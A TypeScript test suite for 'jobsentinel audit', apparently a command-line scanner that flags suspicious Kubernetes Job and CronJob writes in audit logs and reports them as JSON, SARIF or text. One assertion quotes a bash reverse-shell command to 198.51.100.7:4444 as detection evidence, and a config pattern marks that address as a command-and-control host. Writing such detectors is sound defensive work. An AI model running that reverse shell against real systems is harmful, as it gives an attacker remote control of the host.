import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { gzipSync } from 'node:zlib';
import { describe, test } from 'node:test';
import { FORMATS } from '../../core/test/fixtures/audit/canonical.ts';
import { BIN, run, runJson, workspace } from './helpers.ts';

const KUBE = FORMATS['kube-apiserver JSON lines (v1)']();
const MATCHED = ['a-denied', 'a-json-patch', 'a-merge-patch', 'a-privileged', 'a-response-only', 'a-revshell'];
const CLEAN = KUBE.split('\n').filter((line) => line.includes('"a-benign"')).join('\n') + '\n';

describe('jobsentinel audit', () => {
  test('--format json prints one version-1 object: matches with file and line, and the summary', () => {
    const dir = workspace({ 'logs/audit.log': KUBE });
    const { status, json } = runJson(['audit', 'logs/audit.log'], { cwd: dir });
    assert.equal(status, 1);
    assert.equal(json.version, 1);
    assert.deepEqual(json.matches.map((match: { auditID: string }) => match.auditID).sort(), MATCHED);
    const first = json.matches.find((match: { auditID: string }) => match.auditID === 'a-privileged');
    assert.deepEqual(Object.keys(first), [
      'file', 'line', 'auditID', 'stage', 'timestamp', 'verb', 'resource', 'namespace', 'name', 'user', 'impersonatedUser', 'cloudIdentity', 'owner', 'sourceIPs', 'userAgent', 'outcome', 'indicators',
    ]);
    assert.deepEqual([first.impersonatedUser, first.cloudIdentity, first.owner], [null, null, null]);
    assert.deepEqual([first.file, first.line, first.stage], ['logs/audit.log', 2, 'ResponseComplete']);
    assert.deepEqual(Object.keys(first.indicators[0]), ['indicator', 'severity', 'message', 'path', 'evidence']);
    assert.deepEqual(json.summary, { events: 22, jobWrites: 8, matches: 6, incidents: 6, uninspectable: 1, malformed: 0, duplicates: 8, filteredOut: 0, suppressed: 0, incomplete: 0 });
    assert.deepEqual(Object.keys(json), ['version', 'mode', 'matches', 'uninspectable', 'suppressed', 'incidents', 'errors', 'config', 'summary']);
    assert.equal(json.config, null);
    assert.deepEqual(json.uninspectable.map((write: { auditID: string; reason: string; line: number; file: string }) => [write.file, write.line, write.auditID, write.reason]), [
      ['logs/audit.log', 13, 'a-metadata', 'Metadata level'],
    ]);
    assert.deepEqual(json.incidents.find((incident: { name: string }) => incident.name === 'sync'), {
      kind: 'Job', namespace: 'payments', name: 'sync', severity: 'error', first: '2026-03-02T10:00:04.000Z', last: '2026-03-02T10:00:04.000Z', matches: 1, denied: 0,
      indicators: ['shell-escape', 'attacker-tooling'], users: ['mallory@example.com'], impersonatedUsers: [], cloudIdentities: [], file: 'logs/audit.log', line: 4,
    });
    assert.deepEqual(json.errors, []);
  });

  test('exit 0 when nothing matches', () => {
    const dir = workspace({ 'clean.log': CLEAN });
    assert.equal(run(['audit', 'clean.log'], { cwd: dir }).status, 0);
  });

  test('reads standard input with -, and by default; gzip is recognised there too', () => {
    const dash = runJson(['audit', '-'], { input: KUBE });
    assert.equal(dash.json.summary.matches, 6);
    assert.equal(dash.json.matches[0].file, '<stdin>');
    const implicit = runJson(['audit', '--stdin-name', 'cluster.log.gz'], { input: gzipSync(KUBE) });
    assert.equal(implicit.status, 1);
    assert.equal(implicit.json.matches[0].file, 'cluster.log.gz');
  });

  test('several files, each format recognised by content', () => {
    const dir = workspace({
      'gke.json': FORMATS['GKE Cloud Audit Logs (gcloud logging read: an array)'](),
      'eks.json': FORMATS['EKS aws logs filter-log-events document'](),
      'aks.log.gz': gzipSync(FORMATS['AKS diagnostic export (properties.log)']()),
    });
    const { json } = runJson(['audit', 'gke.json', 'eks.json', 'aks.log.gz'], { cwd: dir });
    assert.equal(json.summary.matches, 18);
    for (const file of ['gke.json', 'eks.json', 'aks.log.gz']) {
      assert.deepEqual(json.matches.filter((match: { file: string }) => match.file === file).map((match: { auditID: string }) => match.auditID).sort(), MATCHED);
    }
  });

  test('exit 2 for a file that cannot be read; the other files are still scanned', () => {
    const dir = workspace({ 'audit.log': KUBE });
    const { status, json } = runJson(['audit', 'missing.log', 'audit.log'], { cwd: dir });
    assert.equal(status, 2);
    assert.equal(json.summary.matches, 6);
    assert.equal(json.errors[0].file, 'missing.log');
    assert.match(json.errors[0].message, /cannot read: .*no such file/i);
  });

  test('a truncated gzip file: exit 2, the error says so, and the matches before the cut are reported', () => {
    const whole = gzipSync(Array.from({ length: 60 }, (_, round) => KUBE.replaceAll('"a-', `"r${round}-`)).join(''));
    const dir = workspace({ 'cut.log.gz': whole.subarray(0, Math.floor(whole.length / 2)), 'whole.log.gz': whole });
    const { status, json } = runJson(['audit', 'cut.log.gz'], { cwd: dir });
    assert.equal(status, 2);
    assert.ok(json.summary.matches > 0 && json.summary.matches < 6 * 60, `${json.summary.matches} matches`);
    const messages = json.errors.map((error: { message: string }) => error.message).join('\n');
    assert.match(messages, /gzip data is truncated at byte \d+ \(no end of member 1\); results up to that point are kept/);
    assert.equal(runJson(['audit', 'whole.log.gz'], { cwd: dir }).json.summary.matches, 6 * 60);
  });

  test('exit 2 for a file that is not an audit log, with the accepted formats', () => {
    const dir = workspace({ 'cronjob.yaml': 'apiVersion: batch/v1\nkind: CronJob\n' });
    const result = run(['audit', 'cronjob.yaml'], { cwd: dir });
    assert.equal(result.status, 2);
    assert.match(result.stdout, /cronjob\.yaml:1: error: not an audit log: .*Accepted formats: kube-apiserver/);
  });

  test('the text report: incidents first, each with who, when and its requests with the evidence; then what was not inspected, the summary and the advice', () => {
    const dir = workspace({ 'audit.log': KUBE });
    const { status, stdout } = run(['audit', 'audit.log'], { cwd: dir });
    assert.equal(status, 1);
    assert.match(stdout, /^Incidents \(6\)$/m);
    assert.ok(stdout.indexOf('Incidents (6)') < stdout.indexOf('Not inspected'));
    assert.match(stdout, /^2\. error {2}Job payments\/sync {2}1 suspicious write {2}2026-03-02T10:00:04\.000Z$/m);
    assert.match(stdout, /^ {3}Indicators: shell-escape, attacker-tooling$/m);
    assert.match(stdout, /^ {3}Users: mallory@example\.com$/m);
    assert.match(stdout, /^ {5}audit\.log:\d+ {2}\d{4}-\d\d-\d\dT[\d:.]+Z {2}DENIED {2}audit ID a-denied$/m);
    assert.match(stdout, /^ {7}mallory@example\.com create jobs payments\/sync {2}\(10\.0\.0\.7, kubectl\/v1\.30\.1\)$/m);
    assert.match(stdout, /^ {9}error {7}shell-escape +Container "main" opens a raw network connection .*: bash -i >& \/dev\/tcp\/198\.51\.100\.7\/4444 0>&1 {2}at \/spec\/template\/spec\/containers\/0\/command\/2$/m);
    assert.match(stdout, /^ {9}information attacker-tooling +Container "main" uses the busybox image \(busybox:1\.36\)\./m);
    assert.match(stdout, /^ {2}CronJob payments\/hidden: 1 write \(Metadata level\) by mallory@example\.com, 2026-03-02T10:00:13\.000Z$/m);
    assert.match(stdout, /^ {4}first: audit\.log:13, create by mallory@example\.com, audit ID a-metadata$/m);
    assert.match(stdout, /^6 suspicious job writes in 6 incidents \(1 denied\) among 8 job writes in 22 events \(1 file, structural mode, kube-apiserver; no config file\)\.$/m);
    assert.match(stdout, /1 job write was logged without a body and could not be inspected \(listed above\)\. .* level: RequestResponse/);
    assert.doesNotMatch(stdout, /\u001b\[/, 'no colour when stdout is not a terminal');
  });

  test('--format sarif: one result per indicator hit at the log line, with the rules of the manifests', () => {
    const dir = workspace({ 'audit.log': KUBE });
    const { status, stdout } = run(['audit', 'audit.log', '--format', 'sarif'], { cwd: dir });
    assert.equal(status, 1);
    const sarif = JSON.parse(stdout);
    assert.equal(sarif.version, '2.1.0');
    const [runLog] = sarif.runs;
    assert.ok(runLog.tool.driver.rules.some((rule: { id: string }) => rule.id === 'privileged-container'));
    const result = runLog.results.find((entry: { properties: { auditID: string } }) => entry.properties.auditID === 'a-privileged');
    assert.equal(result.ruleId, 'privileged-container');
    assert.equal(runLog.tool.driver.rules[result.ruleIndex].id, 'privileged-container');
    assert.deepEqual(result.locations[0].physicalLocation.artifactLocation, { uri: 'audit.log', uriBaseId: 'SRCROOT' });
    assert.equal(result.locations[0].physicalLocation.region.startLine, 2);
    const hits = runJson(['audit', 'audit.log'], { cwd: dir }).json.matches.reduce((count: number, match: { indicators: unknown[] }) => count + match.indicators.length, 0);
    assert.equal(runLog.results.length, hits);
    const notifications = runLog.invocations[0].toolExecutionNotifications;
    assert.match(notifications.at(-2).message.text, /1 job writes were logged without a body to inspect \(each is listed\)/);
    assert.equal(notifications.at(-1).message.text, 'mallory@example.com create cronjobs payments/hidden (allowed) at 2026-03-02T10:00:13.000Z could not be inspected: Metadata level.');
    assert.equal(notifications.at(-1).locations[0].physicalLocation.region.startLine, 13);
    assert.equal(notifications.at(-1).properties.reason, 'Metadata level');
    assert.deepEqual(runLog.properties.incidents.map((incident: { name: string }) => incident.name), ['node-debug', 'sync', 'report', 'escape', 'etl', 'warm']);
    assert.equal(result.properties.incident, 'CronJob payments/node-debug');
    assert.match(result.correlationGuid, /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });

  test('--mode elastic runs the seed rule over the raw events', () => {
    const dir = workspace({ 'audit.log': KUBE });
    const { json } = runJson(['audit', 'audit.log', '--mode', 'elastic'], { cwd: dir });
    assert.equal(json.mode, 'elastic');
    assert.ok(json.summary.matches > 6);
    assert.ok(json.matches.some((match: { auditID: string }) => match.auditID === 'a-status'));
  });

  test('--config: ignore entries with users: apply; the nearest .jobsentinel.yaml is used otherwise', () => {
    const config = 'ignore:\n  - users: ["mallory@example.com"]\n';
    const dir = workspace({ 'logs/audit.log': KUBE, 'logs/.jobsentinel.yaml': config, 'tuning.yaml': 'ignore:\n  - namespaces: [payments]\n    indicators: [privileged-container]\n' });
    assert.equal(runJson(['audit', 'logs/audit.log'], { cwd: dir }).json.summary.matches, 0, 'found from the log\u2019s folder');
    const explicit = runJson(['audit', 'logs/audit.log', '--config', 'tuning.yaml'], { cwd: dir });
    assert.deepEqual(explicit.json.matches.map((match: { auditID: string }) => match.auditID).sort(), MATCHED.filter((id) => id !== 'a-privileged'));
  });

  test('what the ignore entries suppress is listed in JSON and SARIF, counted in text, listed with --show-suppressed', () => {
    const dir = workspace({ 'audit.log': KUBE, 'tuning.yaml': 'ignore:\n  - namespaces: [payments]\n    indicators: [privileged-container]\n' });
    const { json, status } = runJson(['audit', 'audit.log', '--config', 'tuning.yaml'], { cwd: dir });
    assert.equal(status, 1);
    assert.deepEqual(json.suppressed.map((entry: { auditID: string; indicators: Array<{ indicator: string; suppression: { location: { pointer: string } } }> }) => [entry.auditID, entry.indicators.map((hit) => `${hit.indicator} ${hit.suppression.location.pointer}`)]), [
      ['a-privileged', ['privileged-container /ignore/0']],
    ]);
    assert.equal(json.summary.suppressed, 1);
    const sarif = JSON.parse(run(['audit', 'audit.log', '--config', 'tuning.yaml', '--format', 'sarif'], { cwd: dir }).stdout);
    assert.deepEqual(sarif.runs[0].results.filter((result: { suppressions?: unknown[] }) => result.suppressions).map((result: { ruleId: string }) => result.ruleId), ['privileged-container']);
    const text = run(['audit', 'audit.log', '--config', 'tuning.yaml', '--format', 'text'], { cwd: dir }).stdout;
    assert.match(text, /1 indicator hit suppressed by the config's ignore entries/);
    const listed = run(['audit', 'audit.log', '--config', 'tuning.yaml', '--format', 'text', '--show-suppressed'], { cwd: dir }).stdout;
    assert.match(listed, /audit\.log:\d+ .* create cronjobs payments\/node-debug/);
    assert.match(listed, /privileged-container .*suppressed by ignore entry \/ignore\/0/);
  });

  test('a plain file (read synchronously) and the same bytes streamed from standard input, plain or gzip, report the same', () => {
    const log = KUBE + 'not json\n' + KUBE.replaceAll('"a-', '"b-');
    const dir = workspace({ 'audit.log': log });
    for (const mode of ['structural', 'elastic']) {
      const fromStdin = (input: string | Buffer) => run(['audit', '-', '--stdin-name', 'audit.log', '--mode', mode, '--format', 'json'], { cwd: dir, input });
      const outputs = [run(['audit', 'audit.log', '--mode', mode, '--format', 'json'], { cwd: dir }), fromStdin(log), fromStdin(gzipSync(log))].map(
        (result) => ({ status: result.status, json: JSON.parse(result.stdout) }),
      );
      assert.deepEqual(outputs[1], outputs[0], mode);
      assert.deepEqual(outputs[2], outputs[0], mode);
      assert.ok(outputs[0].json.summary.matches >= 12, `${outputs[0].json.summary.matches} matches`);
      assert.equal(outputs[0].json.errors[0].line, KUBE.split('\n').length);
    }
  });

  test('a pipe given as a file (audit <(zcat …)) is read as a stream, gzip recognised by content', () => {
    const dir = workspace({ 'audit.log': KUBE, 'audit.log.gz': gzipSync(KUBE) });
    for (const file of ['audit.log', 'audit.log.gz']) {
      const result = spawnSync('bash', ['-c', `"${BIN}" audit --format json <(cat ${file})`], { cwd: dir, encoding: 'utf8' });
      const json = JSON.parse(result.stdout);
      assert.equal(result.status, 1, file);
      assert.deepEqual(json.errors, [], file);
      assert.deepEqual(json.matches.map((match: { auditID: string }) => match.auditID).sort(), MATCHED, file);
    }
  });

  test('custom patterns from the config run in both modes, and SARIF describes their rule', () => {
    const config = 'custom:\n  patterns:\n    - {id: reverse-shell-host, pattern: "198\\\\.51\\\\.100\\\\.7", severity: error, description: Known C2 address}\n';
    const dir = workspace({ 'audit.log': KUBE, '.jobsentinel.yaml': config });
    for (const mode of ['structural', 'elastic']) {
      const output = runJson(['audit', 'audit.log', '--mode', mode], { cwd: dir }).json;
      const hits = output.matches.flatMap((match: { auditID: string; indicators: Array<{ indicator: string }> }) =>
        match.indicators.filter((hit) => hit.indicator === 'reverse-shell-host').map(() => match.auditID),
      );
      assert.deepEqual([...new Set(hits)], ['a-revshell'], mode);
    }
    const sarif = JSON.parse(run(['audit', 'audit.log', '--format', 'sarif'], { cwd: dir }).stdout);
    const rule = sarif.runs[0].tool.driver.rules.find((candidate: { id: string }) => candidate.id === 'reverse-shell-host');
    assert.match(rule.shortDescription.text, /Known C2 address/);
  });

  test('bad usage exits 2 with a pointer to --help', () => {
    for (const args of [['audit', '--mode', 'fuzzy'], ['audit', '--format', 'xml'], ['audit', '--bogus']]) {
      const result = run(args, { input: KUBE });
      assert.equal(result.status, 2);
      assert.match(result.stderr, /jobsentinel audit: .*\nRun `jobsentinel audit --help` for usage\./);
    }
  });

  test('--help describes the formats, modes and exit statuses', () => {
    const { status, stdout } = run(['audit', '--help']);
    assert.equal(status, 0);
    assert.match(stdout, /GKE Cloud Audit Logs/);
    assert.match(stdout, /--mode MODE/);
    assert.match(stdout, /Exit status:/);
  });
});

describe('jobsentinel audit on the bundled incident sample: filters, who, incidents, what was not seen', () => {
  const sample = new URL('../../../samples/audit/incident.log', import.meta.url).pathname;

  test('the whole log: one incident for the CronJob and its Jobs, the cloud identity and impersonation, the Metadata-level write listed', () => {
    const { status, json } = runJson(['audit', sample]);
    assert.equal(status, 1);
    assert.deepEqual(json.incidents.map((incident: { kind: string; name: string; matches: number }) => [incident.kind, incident.name, incident.matches]), [['CronJob', 'log-rotate', 5]]);
    const [create] = json.matches;
    assert.equal(create.impersonatedUser, 'system:serviceaccount:ops:deployer');
    assert.deepEqual(create.cloudIdentity, { provider: 'aws', principal: 'arn:aws:sts::111122223333:assumed-role/PlatformAdmin/alice', sessionName: 'alice', accessKeyId: 'ASIA3EXAMPLEKEY7Q' });
    assert.deepEqual(json.matches.slice(1).map((match: { owner: unknown }) => match.owner), Array(4).fill({ kind: 'CronJob', name: 'log-rotate' }));
    assert.deepEqual(json.uninspectable.map((write: { name: string; user: string; reason: string }) => [write.name, write.user, write.reason]), [['node-cleanup', 'system:serviceaccount:ci:runner', 'Metadata level']]);
    assert.equal(json.summary.jobWrites, 8, 'the benign backup CronJob and the quiet schedule patch are job writes, not matches');
  });

  test('--since and --until keep a time window, and the summary says how much was left out', () => {
    const { json } = runJson(['audit', sample, '--since', '2026-05-14T02:12:00Z', '--until', '2026-05-14T02:13:00Z']);
    assert.deepEqual(json.matches.map((match: { name: string }) => match.name), ['log-rotate-29645412']);
    assert.deepEqual([json.summary.jobWrites, json.summary.filteredOut, json.summary.uninspectable], [2, 6, 1]);
  });

  test('--user matches the impersonated user or the cloud identity; --namespace takes globs', () => {
    const asDeployer = runJson(['audit', sample, '--user', 'system:serviceaccount:ops:*']).json;
    assert.deepEqual(asDeployer.matches.map((match: { resource: string }) => match.resource), ['cronjobs']);
    const byRole = runJson(['audit', sample, '--user', 'arn:aws:*:assumed-role/PlatformAdmin/*']).json;
    assert.equal(byRole.summary.matches, 1);
    const payments = runJson(['audit', sample, '--namespace', 'pay*,kube-*']);
    assert.deepEqual([payments.status, payments.json.summary.matches, payments.json.uninspectable.length], [0, 0, 1]);
  });

  test('a time that cannot be read is bad usage (exit 2), not an empty report', () => {
    const result = run(['audit', sample, '--since', 'last tuesday']);
    assert.equal(result.status, 2);
    assert.match(result.stderr, /--since "last tuesday" is not a time/);
  });
});
